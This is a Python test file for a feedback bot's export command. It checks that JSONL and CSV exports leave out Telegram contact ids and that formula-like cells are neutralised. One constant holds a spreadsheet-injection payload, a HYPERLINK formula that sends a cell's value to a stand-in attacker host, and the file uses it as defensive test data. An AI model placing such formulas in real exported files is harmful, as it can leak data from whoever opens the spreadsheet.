"""`export_responses` and `feedback-bot export responses`: rows without contact data, safe CSV."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from bot.export import FIELDS, export_responses
from conversations.engine import Engine
from conversations.rendering import Branding
from conversations.turn import EngineConfig
from core.events import EventKind, InboundEvent
from core.questionnaire import BUILTIN_DIR, load_file
from locales.catalog import catalogs
from storage.embedded import EmbeddedMongo
from storage.store import Store
from storage.types import Database

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TELEGRAM_USER = "user-5550001234"
TELEGRAM_CHAT = "chat-7770004321"
_ids = itertools.count(1)


@pytest.fixture
async def store(db: Database) -> Store:
    store = await Store.open(db)
    await store.questionnaires.install(load_file(BUILTIN_DIR / "default.yaml"), source="test")
    return store


async def _stored_response(store: Store) -> str:
    """A completed response written through the repository, with a skip and a formula-like text."""
    customer = await store.customers.identify(channel="telegram", user_key=TELEGRAM_USER)
    await store.responses.start(
        response_id="resp-1",
        customer_id=customer.id,
        questionnaire_id="default",
        questionnaire_version=1,
        language="en",
        channel="telegram",
        order_ref="A1234",
        consent_version="v1",
    )
    await store.responses.record_answer(response_id="resp-1", question_id="product_quality", value=5)
    await store.responses.record_answer(
        response_id="resp-1", question_id="after_sales", value=None, skipped=True
    )
    await store.responses.record_answer(response_id="resp-1", question_id="recommend", value=10)
    await store.responses.record_answer(response_id="resp-1", question_id="comments", value=FORMULA)
    await store.responses.complete(response_id="resp-1", dropped_answers=[])
    return customer.id


def _event(kind: EventKind, text: str = "", command: str = "") -> InboundEvent:
    return InboundEvent(
        kind=kind,
        channel="telegram",
        chat_key=TELEGRAM_CHAT,
        user_key=TELEGRAM_USER,
        event_id=f"export-{next(_ids)}",
        text=text,
        command=command,
        message_ref="42",
    )


async def _engine_response(store: Store, *, start_argument: str = "") -> None:
    """An in-progress response made by the engine from a Telegram-like chat."""
    engine = Engine(
        store=store,
        catalogs=catalogs(),
        config=EngineConfig(
            branding=Branding(company="Acme", privacy_url="https://acme.example/p", retention_days=30),
            default_language="en",
            default_questionnaire="default",
        ),
    )
    await engine.handle(_event(EventKind.COMMAND, start_argument, command="start"))
    await engine.handle(_event(EventKind.BUTTON, "consent:yes"))
    await engine.handle(_event(EventKind.BUTTON, "a:product_quality:3"))


async def _export(store: Store, fmt: str) -> str:
    out = io.StringIO()
    await export_responses(store, out, fmt=fmt)
    return out.getvalue()


async def test_jsonl_rows(store: Store) -> None:
    customer_id = await _stored_response(store)
    await _engine_response(store)
    text = await _export(store, "jsonl")
    rows = [json.loads(line) for line in text.splitlines()]
    assert len(rows) == 2
    for row in rows:
        assert set(row) == {*FIELDS, "answers"}

    stored = next(row for row in rows if row["response_id"] == "resp-1")
    assert stored["customer_id"] == customer_id
    assert stored["status"] == "complete"
    assert stored["order_ref"] == "A1234"
    assert stored["answers"] == {
        "product_quality": 5,
        "after_sales": None,  # skipped
        "recommend": 10,
        "comments": FORMULA,  # JSON needs no spreadsheet escaping
    }
    assert isinstance(stored["started_at"], str) and stored["started_at"].startswith("20")

    made = next(row for row in rows if row["response_id"] != "resp-1")
    assert made["status"] == "in_progress"
    assert made["answers"] == {"product_quality": 3}
    assert made["channel"] == "telegram"


async def test_export_holds_no_platform_ids(store: Store) -> None:
    await _stored_response(store)
    await _engine_response(store)
    for fmt in ("jsonl", "csv"):
        text = await _export(store, fmt)
        assert TELEGRAM_USER not in text
        assert TELEGRAM_CHAT not in text
        assert "chat_key" not in text and "user_key" not in text


async def test_csv_header_and_neutralised_formula(store: Store) -> None:
    await _stored_response(store)
    await store.responses.start(
        response_id="resp-2",
        customer_id="cust-2",
        questionnaire_id="other",
        questionnaire_version=1,
        language="de",
        channel="telegram",
        order_ref=None,
        consent_version="v1",
    )
    await store.responses.record_answer(response_id="resp-2", question_id="again", value=True)
    await store.responses.record_answer(response_id="resp-2", question_id="note", value="-1+2")

    rows = list(csv.reader(io.StringIO(await _export(store, "csv"))))
    header, *body = rows
    assert header[: len(FIELDS)] == list(FIELDS)
    assert header[len(FIELDS) :] == [
        "product_quality",
        "after_sales",
        "recommend",
        "comments",
        "again",
        "note",
    ]
    assert len(body) == 2
    first = dict(zip(header, body[0], strict=True))
    second = dict(zip(header, body[1], strict=True))
    assert first["response_id"] == "resp-1"
    assert first["product_quality"] == "5"
    assert first["after_sales"] == ""  # skipped
    assert first["comments"] == "'" + FORMULA  # neutralised: no longer starts with "="
    assert first["again"] == ""  # not asked in this questionnaire
    assert second["order_ref"] == ""
    assert second["again"] == "yes"
    assert second["note"] == "'-1+2"
    assert second["product_quality"] == ""


async def test_empty_export(store: Store) -> None:
    assert await _export(store, "jsonl") == ""
    rows = list(csv.reader(io.StringIO(await _export(store, "csv"))))
    assert rows == [list(FIELDS)]


async def test_csv_neutralises_a_formula_like_order_reference(store: Store) -> None:
    await _engine_response(store, start_argument="o--A1")
    header, row = list(csv.reader(io.StringIO(await _export(store, "csv"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["order_ref"] != "-A1"
    assert not cells["order_ref"].startswith(("=", "+", "-", "@"))


async def test_cli_export_csv(
    store: Store, db: Database, embedded_mongo: EmbeddedMongo, tmp_path: Path
) -> None:
    await _stored_response(store)
    executable = Path(sys.executable).parent / "feedback-bot"
    assert executable.is_file()
    environment: dict[str, Any] = {
        key: value
        for key, value in os.environ.items()
        if not key.upper().startswith(("FEEDBACK_BOT", "MONGODB", "TELEGRAM", "PUBLIC_URL"))
    }
    environment.update(
        MONGODB_URI=embedded_mongo.uri,
        MONGODB_DATABASE=db.name,
        FEEDBACK_BOT_DATA_DIR=str(tmp_path / "data"),
    )
    process = await asyncio.create_subprocess_exec(
        str(executable), "export", "responses", "--format", "csv",
        cwd=tmp_path,
        env=environment,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    stdout, stderr = await asyncio.wait_for(process.communicate(), 60)
    assert process.returncode == 0, stderr.decode()
    header, *body = list(csv.reader(io.StringIO(stdout.decode())))
    assert header[: len(FIELDS)] == list(FIELDS)
    assert len(body) == 1
    cells = dict(zip(header, body[0], strict=True))
    assert cells["response_id"] == "resp-1"
    assert cells["recommend"] == "10"
    assert cells["comments"] == "'" + FORMULA
    assert TELEGRAM_USER not in stdout.decode()
    # No embedded server was started: the export read the configured database.
    assert not (tmp_path / "data" / "mongo").exists()
